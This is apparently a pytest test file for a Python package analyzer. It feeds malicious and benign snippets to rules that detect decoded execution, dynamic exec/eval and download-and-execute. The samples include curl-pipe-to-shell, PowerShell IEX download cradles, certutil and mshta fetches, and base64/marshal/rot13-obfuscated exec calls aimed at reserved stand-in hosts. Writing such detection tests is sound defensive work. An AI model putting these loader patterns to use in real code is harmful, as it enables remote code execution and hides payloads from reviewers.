"""PY-EXEC-DECODED, PY-EXEC-DYNAMIC, PY-DOWNLOAD-EXEC: malicious snippets fire, benign look-alikes do not.

The snippets are only parsed, never run; hosts are reserved names (example.invalid, 192.0.2.x, ...)."""

from __future__ import annotations

import textwrap

import pytest

from plugyard_analysis.rulebook import REGISTRY, load_rules
from plugyard_analysis.rules.execution import DOWNLOAD_EXEC, EXEC_DECODED, EXEC_DYNAMIC, download_exec, exec_decoded, exec_dynamic
from plugyard_analysis.sources import parse_python

CHECKS = {"decoded": (exec_decoded, EXEC_DECODED), "dynamic": (exec_dynamic, EXEC_DYNAMIC), "download": (download_exec, DOWNLOAD_EXEC)}


def hits(rule: str, code: str) -> list[tuple[str, int | None, str]]:
    check, info = CHECKS[rule]
    src = parse_python("sample/mod.py", textwrap.dedent(code).encode("utf-8"))
    return [(hit.severity or info.severity, getattr(hit.node, "lineno", hit.line), hit.detail) for hit in check(src)]


def fires(rule: str, code: str) -> bool:
    return bool(hits(rule, code))


def test_rules_are_registered_with_their_severities() -> None:
    load_rules()
    assert REGISTRY.rules["PY-EXEC-DECODED"].severity == "critical"
    assert REGISTRY.rules["PY-EXEC-DYNAMIC"].severity == "medium"
    assert REGISTRY.rules["PY-DOWNLOAD-EXEC"].severity == "critical"
    assert {REGISTRY.rules[r].category for r in ("PY-EXEC-DECODED", "PY-EXEC-DYNAMIC", "PY-DOWNLOAD-EXEC")} == {"behaviour"}


# --- PY-EXEC-DECODED ------------------------------------------------------------------------------------

DECODED = {
    "base64": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
    "aliased module": "import base64 as b\nimport zlib as z\nexec(z.decompress(b.b64decode(X)))",
    "from import": "from base64 import b64decode\ncode = b64decode(DATA).decode()\nexec(code)",
    "star import": "from base64 import *\neval(b32decode(DATA))",
    "via variables in a function": """
        import base64, zlib
        BLOB = "eJw..."
        def run():
            raw = base64.b85decode(BLOB)
            source = zlib.decompress(raw).decode()
            exec(compile(source, "<x>", "exec"))
    """,
    "bz2": "import bz2\nexec(bz2.decompress(B))",
    "lzma": "import lzma\nexec(lzma.decompress(B))",
    "gzip": "import gzip\nexec(gzip.decompress(B))",
    "a85": "import base64\nexec(base64.a85decode(B))",
    "b16": "import base64\neval(base64.b16decode(B))",
    "hex fromhex": "exec(bytes.fromhex('7072696e74282729').decode())",
    "unhexlify": "import binascii\nexec(binascii.unhexlify(H))",
    "codecs hex": "import codecs\nexec(codecs.decode(H, 'hex'))",
    "rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot_13'))",
    "rot13 encode": "import codecs\nexec(codecs.encode('cevag(1)', 'rot13'))",
    "reversed literal": "eval(')(tnirp'[::-1])",
    "reversed variable": "P = ')(tnirp'\nQ = P[::-1]\nexec(Q)",
    "reversed join": "exec(''.join(reversed(')(tnirp')))",
    "chr join": "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))",
    "map chr": "exec(''.join(map(chr, CODES)))",
    "xor bytes": "exec(bytes(b ^ 42 for b in BLOB).decode())",
    "char code list": "exec(bytes([112, 114, 105, 110, 116, 40, 41, 10]).decode())",
    "marshal exec": "import marshal, base64\nexec(marshal.loads(base64.b64decode(C)))",
    "function type": "import marshal, types, zlib\ntypes.FunctionType(marshal.loads(zlib.decompress(C)), globals())()",
    "marshal of decoded": "import marshal, base64\ncode = marshal.loads(base64.b64decode(C))",
    "decrypt": "from cryptography.fernet import Fernet\nexec(Fernet(K).decrypt(T))",
    "import decoded name": "import base64\nos = __import__(base64.b64decode('b3M=').decode())",
    "importlib decoded name": "import importlib, codecs\nm = importlib.import_module(codecs.decode('bf', 'rot13'))",
    "builtins attribute": "import builtins, base64\nbuiltins.exec(base64.b64decode(X))",
    "getattr builtins": "import builtins, base64\ngetattr(builtins, 'eval')(base64.b64decode(X))",
    "getattr builtins split name": "import builtins, base64\nrun = getattr(builtins, 'ex' + 'ec')\nrun(base64.b64decode(X))",
    "alias": "import base64\nrun = exec\nrun(base64.b64decode(X))",
    "subscript builtins": "import base64\n__builtins__['exec'](base64.b64decode(X))",
    "dunder import module": "__import__('builtins').exec(__import__('base64').b64decode(X))",
    "decoded in a helper": "import zlib\ndef unpack(blob):\n    return zlib.decompress(blob).decode()\nexec(unpack(B))",
    "decoded by the caller": "import base64\ndef run(code):\n    exec(compile(code, '<x>', 'exec'))\nrun(base64.b64decode(B))",
    "decoded in a method, run in another": "import base64\nclass L:\n    def __init__(self):\n        self.code = base64.b64decode(B)\n    def go(self):\n        exec(self.code)",
    "rot13 by a translate table": "T = str.maketrans('abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm')\nexec(P.translate(T))",
    "codec name in a variable": "import codecs\nENC = 'rot' + '_13'\nexec(codecs.decode(P, ENC))",
    "reversed data executed": "def run(blob):\n    exec(compile(blob[::-1], '<x>', 'exec'))",
    "reversed join executed": "def run(blob):\n    exec(''.join(reversed(blob)))",
    "rot13 lambda": "rot = lambda s: ''.join(chr((ord(c) - 84) % 26 + 97) for c in s)\neval(compile(rot(P), 'x', 'exec'))",
    "translate by a dict": "TABLE = {ord(a): ord(b) for a, b in zip(SRC, DST)}\nexec(P.translate(TABLE))",
    "custom rot13 helper": "def rot(s):\n    return ''.join(chr((ord(c) - 84) % 26 + 97) if c.isalpha() else c for c in s)\nexec(compile(rot(P), 'x', 'exec'))",
}


@pytest.mark.parametrize("code", DECODED.values(), ids=DECODED.keys())
def test_decoded_execution_is_critical(code: str) -> None:
    found = hits("decoded", code)
    assert found, code
    assert {severity for severity, _, _ in found} == {"critical"}


BENIGN_DECODED = {
    "base64 to json": "import base64, json\ndata = json.loads(base64.b64decode(RAW))",
    "zlib data": "import zlib\nwords = zlib.decompress(BLOB).decode().split()",
    "literal_eval of decoded": "import ast, base64\nvalue = ast.literal_eval(base64.b64decode(X).decode())",
    "reversed list joined": "def f(ids, ns):\n    return eval('.'.join(ids[::-1]), ns)",
    "reversed data, separate eval": "import base64\nname = base64.b64decode(X).decode()[::-1]\nresult = eval('1 + 1')",
    "marshal round trip": "import marshal\ncopy = marshal.loads(marshal.dumps(table))",
    "constant source": "exec('x = 1')",
    "decode for display": "import base64\nprint(base64.b64decode(X))\nexec(open('setup_helpers.py').read())",
    "re.compile": "import re, base64\npattern = re.compile(base64.b64decode(P).decode())",
    "own eval function": "import base64\ndef eval(x):\n    return x\neval(base64.b64decode(X))",
}


@pytest.mark.parametrize("code", BENIGN_DECODED.values(), ids=BENIGN_DECODED.keys())
def test_benign_decoding_is_not_decoded_execution(code: str) -> None:
    assert hits("decoded", code) == []


def test_one_hit_per_line_and_the_line_is_the_sink() -> None:
    found = hits("decoded", "import base64\n\n\nexec(compile(base64.b64decode(X), 'x', 'exec'))\n")
    assert [line for _, line, _ in found] == [4]
    assert "base64.b64decode" in found[0][2]


# --- PY-EXEC-DYNAMIC ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "def f(x):\n    eval(x)",
        "import os\nexec(os.environ['HOOK'])",
        "def handle(request):\n    return eval(request.get('expr'))",
        "exec(open('/tmp/stage.py').read())",
        "import builtins\ndef f(code):\n    builtins.exec(code, {})",
        "def f(name):\n    exec('import ' + name)",
    ],
)
def test_dynamic_execution_is_medium(code: str) -> None:
    found = hits("dynamic", code)
    assert [severity for severity, _, _ in found] == ["medium"]


@pytest.mark.parametrize(
    "code",
    [
        "eval('1 + 2')",
        "X = 'a = 1'\nexec(X)",
        "T = 'x = %d'\nexec(T % 3)",
        "exec(f'value = {42}')",
        "import re\nre.compile(pattern)",
        "model.eval()\nself.eval(x)",
        "def eval(x):\n    return x\neval(user_input)",
        "import os\nHERE = os.path.dirname(__file__)\nwith open(os.path.join(HERE, '_version.py')) as f:\n    exec(f.read(), ns)",
        "exec(open('pkg/_version.py').read())",
        "import ast\nvalue = ast.literal_eval(text)",
    ],
)
def test_dynamic_execution_quiet_cases(code: str) -> None:
    assert hits("dynamic", code) == []


def test_decoded_and_downloaded_execution_is_left_to_the_specific_rules() -> None:
    assert hits("dynamic", "import base64\nexec(base64.b64decode(X))") == []
    assert hits("dynamic", "import requests\nexec(requests.get(U).text)") == []


# --- PY-DOWNLOAD-EXEC -----------------------------------------------------------------------------------

DOWNLOADS = {
    "exec requests text": "import requests\nexec(requests.get('https://x.example.invalid/a').text)",
    "exec urlopen": "from urllib.request import urlopen\nexec(urlopen('https://x.example.invalid/a').read().decode())",
    "exec via variable": "import urllib.request\ndef go():\n    code = urllib.request.urlopen(U).read()\n    exec(code)",
    "session get": "import requests\ns = requests.Session()\nr = s.get(U)\nexec(r.text)",
    "with session": "import requests\nwith requests.Session() as s:\n    exec(s.get(U).content)",
    "httpx": "import httpx\neval(httpx.get(U).text)",
    "http.client": "import http.client\nc = http.client.HTTPSConnection('x.example.invalid')\nc.request('GET', '/p')\nexec(c.getresponse().read())",
    "socket recv": "import socket\ns = socket.create_connection(('192.0.2.1', 80))\nexec(s.recv(65536))",
    "aiohttp": """
        import aiohttp
        async def go():
            async with aiohttp.ClientSession() as session:
                async with session.get(U) as resp:
                    code = await resp.text()
            exec(code)
    """,
    "decoded download": "import base64, requests\nexec(base64.b64decode(requests.get(U).content))",
    "command from response": "import os, requests\nos.system(requests.get(U).text.strip())",
    "urlretrieve then run": """
        import os, subprocess, tempfile, urllib.request
        def go():
            target = os.path.join(tempfile.gettempdir(), "upd.exe")
            urllib.request.urlretrieve("http://203.0.113.5/u", target)
            subprocess.Popen([target])
    """,
    "written then os.system": """
        import os, requests
        def go():
            data = requests.get(U).content
            with open("/tmp/.cache-bin", "wb") as f:
                f.write(data)
            os.system("chmod +x /tmp/.cache-bin && /tmp/.cache-bin")
    """,
    "written script then python": """
        import subprocess, sys, requests
        r = requests.get(U)
        open("helper.py", "wb").write(r.content)
        subprocess.call([sys.executable, "helper.py"])
    """,
    "named temporary file": """
        import subprocess, tempfile, requests
        def go():
            with tempfile.NamedTemporaryFile(delete=False, suffix=".exe") as f:
                f.write(requests.get(U).content)
            subprocess.Popen([f.name])
    """,
    "mkstemp and os.write": """
        import os, subprocess, tempfile, urllib.request
        def go():
            fd, path = tempfile.mkstemp(suffix=".sh")
            os.write(fd, urllib.request.urlopen(U).read())
            subprocess.call(["sh", path])
    """,
    "session from a helper": """
        import subprocess, requests
        def session():
            s = requests.Session()
            s.verify = False
            return s
        def go(path):
            with open(path, "wb") as f:
                f.write(session().get(U).content)
            subprocess.Popen([path])
    """,
    "path kept on the object": """
        import subprocess, tempfile, os, requests
        class Updater:
            def __init__(self):
                self.target = os.path.join(tempfile.gettempdir(), "svc")
            def fetch(self):
                open(self.target, "wb").write(requests.get(U, verify=False).content)
            def start(self):
                subprocess.Popen([self.target])
    """,
    "archive extracted then run": """
        import io, os, subprocess, zipfile, requests
        def go(dest):
            zipfile.ZipFile(io.BytesIO(requests.get(U).content)).extractall(dest)
            subprocess.Popen([os.path.join(dest, "agent.exe")])
    """,
    "ShellExecute": """
        import ctypes, urllib.request
        def go(path):
            urllib.request.urlretrieve(U, path)
            ctypes.windll.shell32.ShellExecuteW(None, "open", path, None, None, 0)
    """,
    "written in one function, run in another": """
        import os, subprocess, requests
        TARGET = os.path.join(os.path.expanduser("~"), ".local", "svc")
        def fetch():
            with open(TARGET, "wb") as f:
                f.write(requests.get(U).content)
        def start():
            exe = str(TARGET)
            subprocess.Popen([exe])
    """,
    "variable at the start of a shell string": """
        import os, requests
        def go(path):
            open(path, "wb").write(requests.get(U).content)
            os.system(f"{path} --silent &")
    """,
    "module bound by __import__": "req = __import__('requests')\nexec(req.get(U).text)",
    "module bound by import_module": "import importlib\nnet = importlib.import_module('urllib.request')\nexec(net.urlopen(U).read())",
    "function alias": "import os\nrun = os.system\nrun('curl -s https://x.example.invalid/i | sh')",
    "fetched by a helper": "import requests\ndef fetch():\n    return requests.get(U).text\nexec(fetch())",
    "fetched in __init__, run later": "import urllib.request\nclass Up:\n    def __init__(self):\n        self.code = urllib.request.urlopen(U).read()\n    def run(self):\n        exec(self.code)",
    "chunks then startfile": """
        import os, requests
        def go(path):
            r = requests.get(U, stream=True)
            with open(path, "wb") as out:
                for chunk in r.iter_content(8192):
                    out.write(chunk)
            os.startfile(path)
    """,
    "path write_bytes then runpy": """
        import runpy, requests
        from pathlib import Path
        def go():
            target = Path("/tmp/plugin_update.py")
            target.write_bytes(requests.get(U).content)
            runpy.run_path(str(target))
    """,
    "downloaded library loaded": """
        import ctypes, urllib.request
        urllib.request.urlretrieve(U, "/tmp/libhelper.so")
        ctypes.CDLL("/tmp/libhelper.so")
    """,
    "pip install url": "import os\nos.system('pip install https://x.example.invalid/p.tar.gz')",
    "pip install git": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'git+https://git.example.invalid/x.git'])",
    "pip index url": "import subprocess\nsubprocess.run(['pip', 'install', '--index-url', 'https://pypi.example.invalid/simple', 'requests'])",
    "pip.main": "import pip\npip.main(['install', 'https://x.example.invalid/p.whl'])",
    "curl sh": "import subprocess\nsubprocess.run('curl -fsSL https://x.example.invalid/i.sh | sh', shell=True)",
    "wget bash": "import os\nos.system('wget -qO- http://198.51.100.1/i | sudo bash')",
    "curl python": "import os\nos.system('curl -s https://x.example.invalid/a.py | python3')",
    "download and run": "import os\nos.system('curl -o /tmp/a https://x.example.invalid/a && chmod +x /tmp/a && /tmp/a')",
    "powershell": "import subprocess\nsubprocess.Popen(['powershell', '-c', \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"])",
    "python -c": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import urllib.request;exec(urllib.request.urlopen('http://192.0.2.7/a').read())\"])",
    "mshta": "import os\nos.system('mshta http://192.0.2.7/a.hta')",
    "certutil": "import os\nos.system('certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe')",
    "msiexec": "import os\nos.system('msiexec /i http://192.0.2.7/a.msi /quiet')",
}


@pytest.mark.parametrize("code", DOWNLOADS.values(), ids=DOWNLOADS.keys())
def test_download_and_execute_is_critical(code: str) -> None:
    found = hits("download", code)
    assert found, code
    assert {severity for severity, _, _ in found} == {"critical"}


BENIGN_DOWNLOADS = {
    "json api": "import requests\nversion = requests.get(U).json()['version']",
    "download data and gunzip": """
        import subprocess, requests
        from pathlib import Path
        def go():
            target = Path("/tmp/words.gz")
            target.write_bytes(requests.get(U).content)
            subprocess.run(["gzip", "-d", str(target)])
    """,
    "download then open with fixed tool": """
        import subprocess, urllib.request
        urllib.request.urlretrieve(U, "report.pdf")
        subprocess.run(["pdftotext", "report.pdf", "report.txt"])
    """,
    "git clone": "import subprocess\nsubprocess.run(['git', 'clone', 'https://git.example.com/x.git'])",
    "pip list": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'])",
    "pip install pinned name": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'requests==2.32.3'])",
    "curl to file only": "import subprocess\nsubprocess.run(['curl', '-o', 'data.json', 'https://api.example.com/data'])",
    "version into command": "import subprocess, requests\nv = requests.get(U).json()['v']\nsubprocess.run(['echo', 'latest', v])",
    "eval constant next to a request": "import requests\nr = requests.get(U)\nx = eval('1 + 1')",
    "archive extracted, a fixed tool run on it": """
        import io, subprocess, zipfile, requests
        def go(dest):
            zipfile.ZipFile(io.BytesIO(requests.get(U).content)).extractall(dest)
            subprocess.run(["ls", "-l", dest])
    """,
    "same parameter name in two functions": """
        import os, urllib.request
        def download(url, filename):
            with open(filename, "wb") as out:
                out.write(urllib.request.urlopen(url).read())
        def checkout(url, filename):
            os.system("svn checkout -q %s %s" % (url, filename))
    """,
    "downloaded file as an argument of a shell string": """
        import os, requests
        def go(path):
            open(path, "wb").write(requests.get(U).content)
            os.system(f"unzip -o {path} -d /tmp/out")
    """,
    "run a fixed program, unrelated download": """
        import subprocess, requests
        def fetch(path):
            with open(path, "wb") as f:
                f.write(requests.get(U).content)
        def lint(other):
            subprocess.run(["ruff", "check", other])
    """,
}


@pytest.mark.parametrize("code", BENIGN_DOWNLOADS.values(), ids=BENIGN_DOWNLOADS.keys())
def test_benign_downloads_are_not_flagged(code: str) -> None:
    assert hits("download", code) == []
